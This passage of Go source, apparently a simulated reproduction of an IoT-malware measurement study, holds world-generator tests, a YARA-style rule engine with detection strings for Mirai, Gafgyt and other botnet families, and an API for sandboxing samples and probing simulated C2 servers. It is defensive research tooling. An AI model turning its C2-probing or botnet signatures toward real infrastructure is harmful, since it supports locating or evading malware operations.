	if share < 0.10 || share > 0.25 {
		t.Fatalf("P2P share = %.2f", share)
	}
}

func TestTop10ASShareNear70Percent(t *testing.T) {
	w := testWorld(t)
	top := map[int]bool{36352: true, 211252: true, 14061: true, 53667: true, 202306: true,
		399471: true, 16276: true, 44812: true, 139884: true, 50673: true}
	var inTop, total int
	for _, cs := range w.C2s {
		if len(cs.SampleIdx) == 0 {
			continue
		}
		total++
		if top[cs.ASN] {
			inTop++
		}
	}
	share := float64(inTop) / float64(total)
	if math.Abs(share-0.697) > 0.06 {
		t.Fatalf("top-10 AS share = %.3f, want ~0.697", share)
	}
}

func TestSamplesPerC2Distribution(t *testing.T) {
	// Figure 5: ~40% of C2s used by one binary, ~20% by more than
	// ten.
	w := testWorld(t)
	var ones, tens, total int
	for _, cs := range w.C2s {
		k := len(cs.SampleIdx)
		if k == 0 {
			continue
		}
		total++
		if k == 1 {
			ones++
		}
		if k > 10 {
			tens++
		}
	}
	oneShare := float64(ones) / float64(total)
	tenShare := float64(tens) / float64(total)
	if oneShare < 0.28 || oneShare > 0.52 {
		t.Fatalf("single-binary C2 share = %.3f, want ~0.40", oneShare)
	}
	if tenShare < 0.08 || tenShare > 0.32 {
		t.Fatalf(">10-binary C2 share = %.3f, want ~0.20", tenShare)
	}
}

func TestObservedLifespanShape(t *testing.T) {
	// Figure 2: ~80% of C2s have a one-day observed lifespan; the
	// mean is ~4 days.
	w := testWorld(t)
	var oneDay, total int
	var sumDays float64
	for _, cs := range w.C2s {
		if len(cs.SampleIdx) == 0 {
			continue
		}
		total++
		span := cs.LastRef.Sub(cs.FirstRef)
		days := span.Hours() / 24
		if days < 1 {
			days = 1
			oneDay++
		}
		sumDays += days
	}
	oneShare := float64(oneDay) / float64(total)
	mean := sumDays / float64(total)
	if oneShare < 0.70 || oneShare > 0.90 {
		t.Fatalf("one-day share = %.3f, want ~0.80", oneShare)
	}
	if mean < 2.0 || mean > 6.5 {
		t.Fatalf("mean lifespan = %.2f days, want ~4", mean)
	}
}

func TestSampleDayZeroLiveRate(t *testing.T) {
	// §3.2: 60% of samples have a dead C2 server on their day.
	w := testWorld(t)
	var live, total int
	for _, s := range w.Samples {
		if s.P2P || len(s.C2Refs) == 0 {
			continue
		}
		total++
		anyLive := false
		for _, ref := range s.C2Refs {
			if cs := w.C2s[ref]; cs != nil && cs.LiveAt(s.Date.Add(time.Hour)) {
				anyLive = true
			}
		}
		if anyLive {
			live++
		}
	}
	rate := float64(live) / float64(total)
	if math.Abs(rate-0.40) > 0.08 {
		t.Fatalf("day-0 live rate = %.3f, want ~0.40", rate)
	}
}

func TestAttackPlanShape(t *testing.T) {
	w := testWorld(t)
	if len(w.Attacks) != 42 {
		t.Fatalf("attacks = %d, want 42", len(w.Attacks))
	}
	c2set := map[string]bool{}
	types := map[c2.AttackType]bool{}
	proto := map[string]int{}
	for _, a := range w.Attacks {
		c2set[a.C2Address] = true
		types[a.Command.Attack] = true
		p := a.Command.Attack.TargetProto()
		if a.Command.Attack == c2.AttackTLS && a.Command.TCPTransport {
			p = "TCP"
		}
		if p == "UDP" && a.Command.Port == 53 {
			p = "DNS"
		}
		proto[p]++
	}
	if len(c2set) != 17 {
		t.Fatalf("attack C2s = %d, want 17", len(c2set))
	}
	if len(types) != 8 {
		t.Fatalf("attack types = %d, want 8", len(types))
	}
	// Figure 10 shape: UDP dominant (~74%), then TCP, DNS, ICMP.
	if proto["UDP"] < 28 || proto["UDP"] > 34 {
		t.Fatalf("UDP attacks = %d, want ~31", proto["UDP"])
	}
	if proto["ICMP"] != 2 || proto["DNS"] != 3 {
		t.Fatalf("proto split = %v", proto)
	}
	// Every attack C2 spec exists, is marked, and is long-lived.
	for addr := range c2set {
		cs := w.C2s[addr]
		if cs == nil || !cs.AttackLauncher {
			t.Fatalf("attack C2 %s not marked", addr)
		}
		if life := cs.Death.Sub(cs.Birth); life < 8*24*time.Hour {
			t.Fatalf("attack C2 %s life = %v, want ~10 days", addr, life)
		}
	}
}

func TestAttackC2CountriesAndGeography(t *testing.T) {
	w := testWorld(t)
	countries := map[string]int{} // per attack (not per C2)
	for _, a := range w.Attacks {
		cs := w.C2s[a.C2Address]
		as := w.Geo.ByASN(cs.ASN)
		if as == nil {
			t.Fatalf("attack C2 AS %d unregistered", cs.ASN)
		}
		countries[as.Country]++
	}
	if len(countries) != 6 {
		t.Fatalf("attack C2 countries = %d (%v), want 6", len(countries), countries)
	}
	share := float64(countries["US"]+countries["NL"]+countries["CZ"]) / float64(len(w.Attacks))
	if share < 0.70 || share > 0.92 {
		t.Fatalf("US+NL+CZ attack share = %.2f, want ~0.80", share)
	}
}

func TestDoubleAttackedTargets(t *testing.T) {
	w := testWorld(t)
	byTarget := map[string]map[c2.AttackType]bool{}
	for _, a := range w.Attacks {
		k := a.Command.Target.String()
		if byTarget[k] == nil {
			byTarget[k] = map[c2.AttackType]bool{}
		}
		byTarget[k][a.Command.Attack] = true
	}
	double := 0
	for _, types := range byTarget {
		if len(types) >= 2 {
			double++
		}
	}
	if double < 6 || double > 10 {
		t.Fatalf("double-attacked targets = %d, want ~8 (25%% of targets)", double)
	}
}

func TestAttackTargetsResolveToVictimASes(t *testing.T) {
	w := testWorld(t)
	asSet := map[int]bool{}
	for _, a := range w.Attacks {
		as, ok := w.Geo.Lookup(a.Command.Target)
		if !ok {
			t.Fatalf("target %v resolves to no AS", a.Command.Target)
		}
		asSet[as.ASN] = true
	}
	if len(asSet) < 15 {
		t.Fatalf("target ASes = %d, want ~23", len(asSet))
	}
}

func TestServersMaterializedForReferencedC2s(t *testing.T) {
	w := testWorld(t)
	for addr, cs := range w.C2s {
		if len(cs.SampleIdx) == 0 && !cs.Elusive {
			continue
		}
		if w.Servers[addr] == nil {
			t.Fatalf("no server for %s", addr)
		}
	}
}

func TestDNSZoneCoversDomainC2s(t *testing.T) {
	w := testWorld(t)
	domains := 0
	for _, cs := range w.C2s {
		if !cs.IsDNS {
			continue
		}
		domains++
		ip, ok := w.Resolve(cs.Domain)
		if !ok || ip != cs.IP {
			t.Fatalf("domain %s resolves to %v, want %v", cs.Domain, ip, cs.IP)
		}
	}
	if domains < 30 || domains > 120 {
		t.Fatalf("domain C2s = %d, want ~60", domains)
	}
}

func TestProbeWorldPlanted(t *testing.T) {
	w := testWorld(t)
	if len(w.ProbeSubnets) != 6 {
		t.Fatalf("probe subnets = %d, want 6", len(w.ProbeSubnets))
	}
	if w.PlantedElusive != 7 {
		t.Fatalf("planted elusive C2s = %d, want 7", w.PlantedElusive)
	}
	for _, cs := range w.C2s {
		if !cs.Elusive {
			continue
		}
		inSubnet := false
		for _, s := range w.ProbeSubnets {
			if s.Contains(cs.IP) {
				inSubnet = true
			}
		}
		if !inSubnet {
			t.Fatalf("elusive C2 %s outside probe subnets", cs.Address)
		}
		if !cs.LiveAt(w.ProbeStart.Add(7 * 24 * time.Hour)) {
			t.Fatalf("elusive C2 %s not alive mid probe window", cs.Address)
		}
	}
}

func TestSampleBinariesEncodeAndCarryRefs(t *testing.T) {
	w := testWorld(t)
	s := w.Samples[0]
	raw, err := s.Binary()
	if err != nil {
		t.Fatal(err)
	}
	if len(raw) < 8192 {
		t.Fatalf("binary size = %d", len(raw))
	}
	sha, err := s.SHA256()
	if err != nil || len(sha) != 64 {
		t.Fatalf("sha = %q, %v", sha, err)
	}
	// Deterministic across regenerations.
	w2 := Generate(DefaultConfig(42))
	sha2, _ := w2.Samples[0].SHA256()
	if sha != sha2 {
		t.Fatal("sample hash not reproducible across identical worlds")
	}
}

func TestPublishSampleRegistersWithIntel(t *testing.T) {
	w := testWorld(t)
	s := w.Samples[0]
	if err := w.PublishSample(s); err != nil {
		t.Fatal(err)
	}
	sha, _ := s.SHA256()
	dets := w.Intel.ScanSample(sha, s.Date)
	if len(dets) < 5 {
		t.Fatalf("detections = %d, want >= 5", len(dets))
	}
}

func TestFeedOnReturnsDaySamples(t *testing.T) {
	w := testWorld(t)
	day := w.Samples[0].Date
	feed := w.FeedOn(day)
	if len(feed) == 0 {
		t.Fatal("empty feed on a sample day")
	}
	for _, s := range feed {
		if !s.Date.Equal(day) {
			t.Fatalf("feed sample dated %v, want %v", s.Date, day)
		}
	}
}

func TestDownloaderPoolsWithinPaperCounts(t *testing.T) {
	w := testWorld(t)
	distinct := map[string]bool{}
	for _, s := range w.Samples {
		if s.DownloaderAddr != "" {
			distinct[s.DownloaderAddr] = true
		}
	}
	if len(distinct) == 0 || len(distinct) > 47 {
		t.Fatalf("distinct downloaders = %d, want <= 47", len(distinct))
	}
}

func TestExploitArmedSampleCountNear197(t *testing.T) {
	w := testWorld(t)
	n := 0
	for _, s := range w.Samples {
		if len(s.ExploitIDs) > 0 {
			n++
		}
	}
	if n < 160 || n > 240 {
		t.Fatalf("exploit-armed samples = %d, want ~197", n)
	}
}

func TestWorldInvariantsAcrossSeeds(t *testing.T) {
	// The calibration must not be a single-seed accident: core
	// invariants hold for any seed.
	for _, seed := range []int64{1, 2, 3, 99, 1234} {
		cfg := DefaultConfig(seed)
		cfg.TotalSamples = 250
		w := Generate(cfg)
		mips := 0
		for _, smp := range w.Samples {
			if smp.ForeignArch == binfmt.ArchMIPS32BE {
				mips++
			}
		}
		if mips != 250 {
			t.Fatalf("seed %d: MIPS samples = %d", seed, mips)
		}
		if len(w.Attacks) != 42 {
			t.Fatalf("seed %d: attacks = %d", seed, len(w.Attacks))
		}
		if w.PlantedElusive != 7 {
			t.Fatalf("seed %d: planted = %d", seed, w.PlantedElusive)
		}
		// Every referenced C2 has a server and resolvable geography.
		for addr, cs := range w.C2s {
			if len(cs.SampleIdx) == 0 && !cs.Elusive {
				continue
			}
			if w.Servers[addr] == nil {
				t.Fatalf("seed %d: no server for %s", seed, addr)
			}
			if _, ok := w.Geo.Lookup(cs.IP); !ok {
				t.Fatalf("seed %d: %s has no AS", seed, addr)
			}
			if !cs.Death.After(cs.Birth) {
				t.Fatalf("seed %d: %s death %v <= birth %v", seed, addr, cs.Death, cs.Birth)
			}
		}
		// Sample refs point at existing C2 specs; evasion values are
		// from the known set.
		for _, s := range w.Samples {
			for _, ref := range s.C2Refs {
				if w.C2s[ref] == nil {
					t.Fatalf("seed %d: sample %d references unknown C2 %s", seed, s.Index, ref)
				}
			}
			switch s.Evasion {
			case "", "connectivity", "strict":
			default:
				t.Fatalf("seed %d: bad evasion %q", seed, s.Evasion)
			}
			if s.P2P && len(s.C2Refs) > 0 {
				t.Fatalf("seed %d: P2P sample %d has C2 refs", seed, s.Index)
			}
		}
		// Canaries resolve to distinct addresses.
		g1, ok1 := w.Resolve("www.google.com")
		g2, ok2 := w.Resolve("www.bing.com")
		if !ok1 || !ok2 || g1 == g2 {
			t.Fatalf("seed %d: canaries broken (%v %v)", seed, g1, g2)
		}
	}
}

func TestDifferentSeedsDifferentWorlds(t *testing.T) {
	cfgA, cfgB := DefaultConfig(1), DefaultConfig(2)
	cfgA.TotalSamples, cfgB.TotalSamples = 100, 100
	a, b := Generate(cfgA), Generate(cfgB)
	shaA, _ := a.Samples[0].SHA256()
	shaB, _ := b.Samples[0].SHA256()
	if shaA == shaB {
		t.Fatal("different seeds produced identical first samples")
	}
}

func TestWeek28IsTheVolumePeak(t *testing.T) {
	// §3.1 / Figure 1: "we observe a peak of IoT malware samples on
	// week 28".
	w := testWorld(t)
	perWeek := map[int]int{}
	for _, s := range w.Samples {
		perWeek[WeekOf(s.Date)]++
	}
	peak, peakWeek := 0, 0
	for wk, n := range perWeek {
		if n > peak {
			peak, peakWeek = n, wk
		}
	}
	if peakWeek != 28 {
		t.Fatalf("peak week = %d (%d samples), want 28", peakWeek, peak)
	}
}

func TestLateWeeksBoostRussianASes(t *testing.T) {
	// §3.1: AS-44812 and AS-139884 "become more active in the last
	// 4 weeks of the study".
	w := testWorld(t)
	var early, late int
	for _, cs := range w.C2s {
		if len(cs.SampleIdx) == 0 || (cs.ASN != 44812 && cs.ASN != 139884) {
			continue
		}
		if WeekOf(cs.FirstRef) >= 28 {
			late++
		} else {
			early++
		}
	}
	// Weeks 28-31 are 4 of 31 weeks; without the boost they would
	// hold ~13% of these ASes' C2s. The boost should push well past
	// parity with the remaining 27 weeks' rate.
	if late*4 < early {
		t.Fatalf("AS-44812/139884 late-week C2s = %d vs early %d; no surge visible", late, early)
	}
}

func TestGroundTruthExport(t *testing.T) {
	cfg := DefaultConfig(3)
	cfg.TotalSamples = 60
	w := Generate(cfg)
	var buf bytes.Buffer
	if err := w.WriteGroundTruth(&buf); err != nil {
		t.Fatal(err)
	}
	var gt GroundTruth
	if err := json.Unmarshal(buf.Bytes(), &gt); err != nil {
		t.Fatal(err)
	}
	if gt.Seed != 3 || len(gt.Samples) < 60 {
		t.Fatalf("seed=%d samples=%d", gt.Seed, len(gt.Samples))
	}
	if len(gt.Attacks) != 42 {
		t.Fatalf("attacks = %d", len(gt.Attacks))
	}
	// Every exported sample hash is 64 hex chars; every C2 ref in
	// samples exists in the C2 list.
	c2set := map[string]bool{}
	for _, c := range gt.C2s {
		c2set[c.Address] = true
	}
	for _, s := range gt.Samples {
		if len(s.SHA256) != 64 {
			t.Fatalf("sample %d sha = %q", s.Index, s.SHA256)
		}
		for _, ref := range s.C2Refs {
			if !c2set[ref] {
				t.Fatalf("sample %d references unexported C2 %s", s.Index, ref)
			}
		}
	}
}
