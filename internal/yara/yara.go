// Package yara implements a minimal YARA-style rule engine: named
// rules with text/hex string patterns and an "any / all / N of them"
// condition, matched over raw sample bytes. The pipeline uses it the
// way the paper uses crowd-sourced VirusTotal YARA rules: assigning a
// malware family label to a binary.
package yara

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"strings"
)

// Pattern is one string definition inside a rule.
type Pattern struct {
	// ID is the $name of the pattern (informational).
	ID string
	// Bytes is the literal byte sequence to search for.
	Bytes []byte
	// NoCase matches ASCII case-insensitively.
	NoCase bool
}

// Text builds a case-sensitive text pattern.
func Text(id, s string) Pattern { return Pattern{ID: id, Bytes: []byte(s)} }

// TextNoCase builds a case-insensitive text pattern.
func TextNoCase(id, s string) Pattern { return Pattern{ID: id, Bytes: []byte(s), NoCase: true} }

// Hex builds a pattern from a hex literal like "7f454c46".
func Hex(id, h string) (Pattern, error) {
	b, err := hex.DecodeString(strings.ReplaceAll(h, " ", ""))
	if err != nil {
		return Pattern{}, fmt.Errorf("yara: bad hex pattern %s: %w", id, err)
	}
	return Pattern{ID: id, Bytes: b}, nil
}

// MustHex is Hex for static rule tables; it panics on bad input.
func MustHex(id, h string) Pattern {
	p, err := Hex(id, h)
	if err != nil {
		panic(err)
	}
	return p
}

// Condition tells how many patterns must match.
type Condition struct {
	// MinMatches is the required number of matching patterns;
	// 0 means all patterns.
	MinMatches int
}

// Any requires at least one pattern.
func Any() Condition { return Condition{MinMatches: 1} }

// All requires every pattern.
func All() Condition { return Condition{} }

// AtLeast requires n patterns.
func AtLeast(n int) Condition { return Condition{MinMatches: n} }

// Rule is one named detection rule.
type Rule struct {
	// Name identifies the rule (e.g. "mirai_generic").
	Name string
	// Tags carry metadata; the family tag is what the pipeline
	// consumes.
	Tags []string
	// Patterns are the rule's string definitions.
	Patterns []Pattern
	// Cond is the match condition over Patterns.
	Cond Condition
}

// Match reports whether the rule matches data.
func (r *Rule) Match(data []byte) bool {
	need := r.Cond.MinMatches
	if need <= 0 || need > len(r.Patterns) {
		need = len(r.Patterns)
	}
	matched := 0
	for _, p := range r.Patterns {
		if matchPattern(data, p) {
			matched++
			if matched >= need {
				return true
			}
		}
	}
	return false
}

func matchPattern(data []byte, p Pattern) bool {
	if len(p.Bytes) == 0 {
		return false
	}
	if !p.NoCase {
		return bytes.Contains(data, p.Bytes)
	}
	lower := bytes.ToLower(data)
	return bytes.Contains(lower, bytes.ToLower(p.Bytes))
}

// Set is an ordered collection of rules.
type Set struct {
	rules []Rule
}

// NewSet builds a rule set.
func NewSet(rules ...Rule) *Set { return &Set{rules: rules} }

// Add appends a rule.
func (s *Set) Add(r Rule) { s.rules = append(s.rules, r) }

// Len returns the number of rules.
func (s *Set) Len() int { return len(s.rules) }

// Match returns the names of every matching rule, in rule order.
func (s *Set) Match(data []byte) []string {
	var out []string
	for i := range s.rules {
		if s.rules[i].Match(data) {
			out = append(out, s.rules[i].Name)
		}
	}
	return out
}

// FamilyOf returns the family tag of the first matching rule that
// has one, or "".
func (s *Set) FamilyOf(data []byte) string {
	for i := range s.rules {
		r := &s.rules[i]
		if len(r.Tags) == 0 || !r.Match(data) {
			continue
		}
		for _, t := range r.Tags {
			if f, ok := strings.CutPrefix(t, "family:"); ok {
				return f
			}
		}
	}
	return ""
}

// IoTFamilies returns the crowd-sourced-style rule set covering the
// seven families of the study (Table 6) plus the scenario-pack
// families, keyed on the artifacts real samples of each family carry.
func IoTFamilies() *Set {
	elf := MustHex("elf_magic", "7f454c46")
	return NewSet(
		Rule{
			Name: "mirai_generic", Tags: []string{"family:mirai"},
			Patterns: []Pattern{elf, Text("busybox", "/bin/busybox MIRAI"), Text("tun0", "listening tun0")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "gafgyt_generic", Tags: []string{"family:gafgyt"},
			Patterns: []Pattern{elf, Text("pong", "PONG!"), Text("report", "REPORT %s:%s"), Text("infect", "gafgyt.infect")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "tsunami_irc", Tags: []string{"family:tsunami"},
			Patterns: []Pattern{elf, Text("nick", "NICK %s"), Text("notice", "NOTICE %s :TSUNAMI"), Text("kaiten", "kaiten.c")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "daddyl33t_qbotmod", Tags: []string{"family:daddyl33t"},
			Patterns: []Pattern{elf, Text("udpraw", "UDPRAW"), Text("hydra", "HYDRASYN"), Text("army", "daddyl33t-army")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "mozi_p2p", Tags: []string{"family:mozi"},
			Patterns: []Pattern{elf, Text("dht", "dht.transmissionbt.com"), Text("cfgkey", "Mozi.m")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "hajime_p2p", Tags: []string{"family:hajime"},
			Patterns: []Pattern{elf, Text("atk", "atk.airdropmalware"), Text("stage2", "stage2.bin")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "vpnfilter_apt", Tags: []string{"family:vpnfilter"},
			Patterns: []Pattern{elf, Text("run", "/var/run/vpnfilterw"), Text("stage1", "vpnfilter-stage1")},
			Cond:     AtLeast(2),
		},
		// Scenario-pack families (spec-driven; see internal/c2/builtin.go).
		Rule{
			Name: "wisp_relay_mesh", Tags: []string{"family:wisp"},
			Patterns: []Pattern{elf, Text("join", "JOIN.MESH"), Text("mesh", "wisp.mesh"), Text("seed", "seed.node")},
			Cond:     AtLeast(2),
		},
		Rule{
			Name: "sora_dga", Tags: []string{"family:sora"},
			Patterns: []Pattern{elf, Text("auth", "sora auth"), Text("dga", "dga.gen"), Text("dl", "sora.dl")},
			Cond:     AtLeast(2),
		},
	)
}
