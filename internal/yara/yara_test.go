package yara

import (
	"math/rand"
	"testing"
	"testing/quick"

	"malnet/internal/binfmt"
)

func TestTextPatternMatches(t *testing.T) {
	r := Rule{Name: "r", Patterns: []Pattern{Text("a", "busybox")}, Cond: Any()}
	if !r.Match([]byte("xx /bin/busybox MIRAI yy")) {
		t.Fatal("text pattern did not match")
	}
	if r.Match([]byte("nothing here")) {
		t.Fatal("text pattern matched absent string")
	}
}

func TestNoCasePattern(t *testing.T) {
	r := Rule{Name: "r", Patterns: []Pattern{TextNoCase("a", "MiRaI")}, Cond: Any()}
	if !r.Match([]byte("this is mirai malware")) {
		t.Fatal("nocase pattern did not match")
	}
}

func TestCaseSensitiveByDefault(t *testing.T) {
	r := Rule{Name: "r", Patterns: []Pattern{Text("a", "MIRAI")}, Cond: Any()}
	if r.Match([]byte("mirai lowercase")) {
		t.Fatal("case-sensitive pattern matched different case")
	}
}

func TestHexPattern(t *testing.T) {
	p, err := Hex("elf", "7f 45 4c 46")
	if err != nil {
		t.Fatal(err)
	}
	r := Rule{Name: "r", Patterns: []Pattern{p}, Cond: Any()}
	if !r.Match([]byte{0x00, 0x7f, 'E', 'L', 'F', 0x01}) {
		t.Fatal("hex pattern did not match")
	}
}

func TestHexPatternBadInput(t *testing.T) {
	if _, err := Hex("bad", "zz"); err == nil {
		t.Fatal("bad hex accepted")
	}
}

func TestAllConditionRequiresEveryPattern(t *testing.T) {
	r := Rule{
		Name:     "r",
		Patterns: []Pattern{Text("a", "one"), Text("b", "two")},
		Cond:     All(),
	}
	if !r.Match([]byte("one and two")) {
		t.Fatal("all-condition failed with both present")
	}
	if r.Match([]byte("only one")) {
		t.Fatal("all-condition matched with one missing")
	}
}

func TestAtLeastCondition(t *testing.T) {
	r := Rule{
		Name:     "r",
		Patterns: []Pattern{Text("a", "aa"), Text("b", "bb"), Text("c", "cc")},
		Cond:     AtLeast(2),
	}
	if !r.Match([]byte("aa bb")) {
		t.Fatal("2 of 3 did not satisfy AtLeast(2)")
	}
	if r.Match([]byte("aa only")) {
		t.Fatal("1 of 3 satisfied AtLeast(2)")
	}
}

func TestEmptyPatternNeverMatches(t *testing.T) {
	r := Rule{Name: "r", Patterns: []Pattern{{ID: "empty"}}, Cond: Any()}
	if r.Match([]byte("anything")) {
		t.Fatal("empty pattern matched")
	}
}

func TestSetMatchOrder(t *testing.T) {
	s := NewSet(
		Rule{Name: "first", Patterns: []Pattern{Text("a", "x")}, Cond: Any()},
		Rule{Name: "second", Patterns: []Pattern{Text("a", "y")}, Cond: Any()},
	)
	got := s.Match([]byte("x and y"))
	if len(got) != 2 || got[0] != "first" || got[1] != "second" {
		t.Fatalf("got %v", got)
	}
}

func TestIoTFamiliesClassifyEncodedSamples(t *testing.T) {
	rules := IoTFamilies()
	for _, family := range []string{"mirai", "gafgyt", "tsunami", "daddyl33t", "mozi", "hajime", "vpnfilter"} {
		cfg := binfmt.BotConfig{Family: family, Variant: "v1", C2Addrs: []string{"192.0.2.1:1"}}
		if family == "mozi" || family == "hajime" {
			cfg.P2P = true
			cfg.C2Addrs = nil
		}
		raw, err := binfmt.Encode(cfg, rand.New(rand.NewSource(42)), nil)
		if err != nil {
			t.Fatal(err)
		}
		if got := rules.FamilyOf(raw); got != family {
			t.Errorf("FamilyOf(%s sample) = %q", family, got)
		}
	}
}

func TestIoTFamiliesNoFalsePositiveOnBenign(t *testing.T) {
	rules := IoTFamilies()
	benign := []byte("#!/bin/sh\necho hello world\n")
	if got := rules.FamilyOf(benign); got != "" {
		t.Fatalf("benign classified as %q", got)
	}
}

func TestQuickPatternAlwaysFindsEmbedded(t *testing.T) {
	f := func(prefix, suffix []byte) bool {
		needle := []byte("NEEDLE-7f")
		data := append(append(append([]byte{}, prefix...), needle...), suffix...)
		r := Rule{Name: "r", Patterns: []Pattern{Text("n", string(needle))}, Cond: Any()}
		return r.Match(data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
