// Package malnet is the public façade of the MalNet reproduction —
// a binary-centric, network-level IoT-malware profiling pipeline
// (Davanian & Faloutsos, ACM IMC 2022) together with every substrate
// it needs: a deterministic virtual Internet, a MITM-capable
// sandbox, the botnet families' C2 protocols, an exploit catalog, a
// threat-intelligence ecosystem, and a calibrated world generator.
//
// Typical use:
//
//	w := malnet.GenerateWorld(malnet.DefaultWorldConfig(42))
//	st := malnet.RunStudy(w, malnet.DefaultStudyConfig(42))
//	fmt.Print(results.NewTable1(st).Render())
//
// The internal packages stay importable within this module;
// downstream consumers work through these aliases plus
// internal/results for the tables and figures.
package malnet

import (
	"malnet/internal/core"
	"malnet/internal/sandbox"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

// World is a fully materialized simulation: network, feeds, C2
// servers, intel ecosystem.
type World = world.World

// WorldConfig tunes world generation.
type WorldConfig = world.Config

// DefaultWorldConfig returns the paper-calibrated world parameters.
func DefaultWorldConfig(seed int64) WorldConfig { return world.DefaultConfig(seed) }

// GenerateWorld builds a world.
func GenerateWorld(cfg WorldConfig) *World { return world.Generate(cfg) }

// Study is the full measurement output (the five datasets).
type Study = core.Study

// StudyConfig tunes the pipeline.
type StudyConfig = core.StudyConfig

// DefaultStudyConfig returns the paper's pipeline settings.
func DefaultStudyConfig(seed int64) StudyConfig { return core.DefaultStudyConfig(seed) }

// RunStudy executes the year-long pipeline against a world.
func RunStudy(w *World, cfg StudyConfig) *Study { return core.RunStudy(w, cfg) }

// Sandbox is the CnCHunter-equivalent dynamic-analysis environment.
type Sandbox = sandbox.Sandbox

// SandboxConfig configures a sandbox installation.
type SandboxConfig = sandbox.Config

// RunOptions configures one sample activation.
type RunOptions = sandbox.RunOptions

// Report is one activation's analysis output.
type Report = sandbox.Report

// NewSandbox installs a sandbox on a virtual network.
func NewSandbox(n *simnet.Network, cfg SandboxConfig) *Sandbox { return sandbox.New(n, cfg) }

// Sandbox modes.
const (
	ModeIsolated = sandbox.ModeIsolated
	ModeLive     = sandbox.ModeLive
)

// DetectC2 classifies a report's traffic into C2 endpoints.
func DetectC2(rep *Report, minAttempts int) []core.C2Candidate {
	return core.DetectC2(rep, minAttempts)
}

// ClassifyExploits classifies a report's handshaker catches.
func ClassifyExploits(rep *Report) []core.ExploitFinding {
	return core.ClassifyExploits(rep)
}

// ProbeConfig parameterizes active probing (the D-PC2 study).
type ProbeConfig = core.ProbeConfig

// ProbeStudy is the probing result.
type ProbeStudy = core.ProbeStudy

// RunProbing sweeps subnets for live C2 servers with a weaponized
// protocol handshake.
func RunProbing(n *simnet.Network, cfg ProbeConfig) *ProbeStudy {
	return core.RunProbing(n, cfg)
}
