package malnet_test

import (
	"math/rand"
	"strings"
	"testing"
	"time"

	"malnet"
	"malnet/internal/binfmt"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

// TestPublicAPISmoke drives the façade the way README's snippet
// does: generate a world, run the study, inspect the datasets.
func TestPublicAPISmoke(t *testing.T) {
	cfg := malnet.DefaultWorldConfig(13)
	cfg.TotalSamples = 80
	w := malnet.GenerateWorld(cfg)
	scfg := malnet.DefaultStudyConfig(13)
	scfg.Analysis.Probing = false
	st := malnet.RunStudy(w, scfg)
	if len(st.Samples) == 0 || len(st.C2s) == 0 {
		t.Fatalf("samples=%d c2s=%d", len(st.Samples), len(st.C2s))
	}
}

// TestPublicSandboxAPI exercises the sandbox aliases end to end.
func TestPublicSandboxAPI(t *testing.T) {
	clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
	net := simnet.New(clock, simnet.DefaultConfig())
	sb := malnet.NewSandbox(net, malnet.SandboxConfig{Seed: 1})
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, rand.New(rand.NewSource(1)), nil)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := sb.Run(raw, malnet.RunOptions{Mode: malnet.ModeIsolated, Duration: 5 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	cands := malnet.DetectC2(rep, 2)
	if len(cands) != 1 || cands[0].Address != "60.0.0.9:23" {
		t.Fatalf("candidates = %+v", cands)
	}
	if got := malnet.ClassifyExploits(rep); len(got) != 0 {
		t.Fatalf("unexpected exploits: %d", len(got))
	}
}

// TestTimelinessDelayDegradesLiveRate is the unit-level counterpart
// of the analysis-delay ablation: with one-day C2 lifespans, a
// week's delay destroys day-0 liveness.
func TestTimelinessDelayDegradesLiveRate(t *testing.T) {
	liveRate := func(delay int) float64 {
		wcfg := world.DefaultConfig(17)
		wcfg.TotalSamples = 120
		w := world.Generate(wcfg)
		scfg := malnet.DefaultStudyConfig(17)
		scfg.Analysis.Probing = false
		scfg.Analysis.DelayDays = delay
		st := malnet.RunStudy(w, scfg)
		var withC2, live int
		for _, s := range st.Samples {
			if s.P2P || len(s.C2s) == 0 {
				continue
			}
			withC2++
			if s.LiveDay0 {
				live++
			}
		}
		if withC2 == 0 {
			t.Fatal("no C2 samples")
		}
		return float64(live) / float64(withC2)
	}
	sameDay := liveRate(0)
	week := liveRate(7)
	if sameDay < 0.25 {
		t.Fatalf("same-day live rate = %.3f, want ~0.40", sameDay)
	}
	if week >= sameDay/2 {
		t.Fatalf("7-day-delay live rate %.3f did not collapse vs same-day %.3f", week, sameDay)
	}
}

func TestRenderSurface(t *testing.T) {
	cfg := malnet.DefaultWorldConfig(19)
	cfg.TotalSamples = 80
	w := malnet.GenerateWorld(cfg)
	scfg := malnet.DefaultStudyConfig(19)
	scfg.Analysis.ProbeRounds = 6
	st := malnet.RunStudy(w, scfg)
	for n := 1; n <= 7; n++ {
		out, err := malnet.RenderTable(st, n)
		if err != nil || len(out) < 10 {
			t.Fatalf("table %d: %v %q", n, err, out)
		}
	}
	for n := 1; n <= 13; n++ {
		out, err := malnet.RenderFigure(st, n)
		if err != nil || len(out) < 10 {
			t.Fatalf("figure %d: %v", n, err)
		}
	}
	if _, err := malnet.RenderTable(st, 99); err == nil {
		t.Fatal("table 99 rendered")
	}
	if _, err := malnet.RenderFigure(st, 0); err == nil {
		t.Fatal("figure 0 rendered")
	}
	all := malnet.RenderAll(st)
	for _, want := range []string{"Table 1", "Figure 13", "Headline findings", "detection quality"} {
		if !strings.Contains(all, want) {
			t.Fatalf("RenderAll missing %q", want)
		}
	}
}
