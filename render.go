package malnet

import (
	"fmt"
	"strings"

	"malnet/internal/results"
)

// The rendering surface: everything the paper's evaluation prints,
// reachable from the public API (the internal/results constructors
// are not importable outside this module).

// RenderTable prints table n (1–7) of the paper from a study.
func RenderTable(st *Study, n int) (string, error) {
	switch n {
	case 1:
		return results.NewTable1(st).Render(), nil
	case 2:
		return results.NewTable2(st).Render(), nil
	case 3:
		return results.NewTable3(st).Render(), nil
